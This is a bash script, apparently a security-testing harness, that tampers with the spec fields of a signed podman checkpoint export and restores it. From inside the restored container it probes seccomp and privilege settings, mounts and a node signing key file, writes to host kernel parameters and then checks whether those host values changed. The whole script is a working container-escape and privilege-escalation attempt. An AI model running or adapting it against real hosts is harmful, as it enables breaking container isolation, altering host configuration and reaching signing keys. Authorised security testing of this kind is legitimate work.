#!/bin/bash
# attack30d: edited spec fields of this node's own signed export through `podman container restore --import`.
set -u
D=/var/tmp/attack30d; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3
cd $D
for mode in "$@"; do
  echo "=== spec $mode ($(date -u +%T))"
  $P $H/edit_spec.py src.tar.zst spec-$mode.tar.zst $mode >/dev/null || { echo "edit failed"; continue; }
  podman rm -f -t 0 attack30d-src >/dev/null 2>&1
  timeout 200 podman container restore --import spec-$mode.tar.zst 2>&1 | tail -2 | cut -c1-700; echo "restore rc=${PIPESTATUS[0]}"
  podman exec attack30d-src sh -c 'grep -E "Seccomp:|NoNewPrivs" /proc/1/status; grep -E "open files|core file" /proc/1/limits; cat /proc/1/cgroup | grep -E "devices|pids"; grep -E " / | /proc/sys | /sys | /mnt | /proc/kcore " /proc/self/mountinfo; ls / | tr "\n" " "; echo; ls -la /etc/gpuckpt/node.key 2>&1; echo 7 > /proc/sys/kernel/printk_ratelimit; echo Y > /sys/module/printk/parameters/always_kmsg_dump; ls /dev | tr "\n" " "' 2>&1; echo "exec rc=$?"
  echo "host: printk_ratelimit $(cat /proc/sys/kernel/printk_ratelimit), always_kmsg_dump $(cat /sys/module/printk/parameters/always_kmsg_dump)"
  echo "host: core_pattern $(cat /proc/sys/kernel/core_pattern), ip_forward $(cat /proc/sys/net/ipv4/ip_forward)"
  echo 5 > /proc/sys/kernel/printk_ratelimit; echo N > /sys/module/printk/parameters/always_kmsg_dump
  podman rm -f -t 0 attack30d-src >/dev/null 2>&1
done
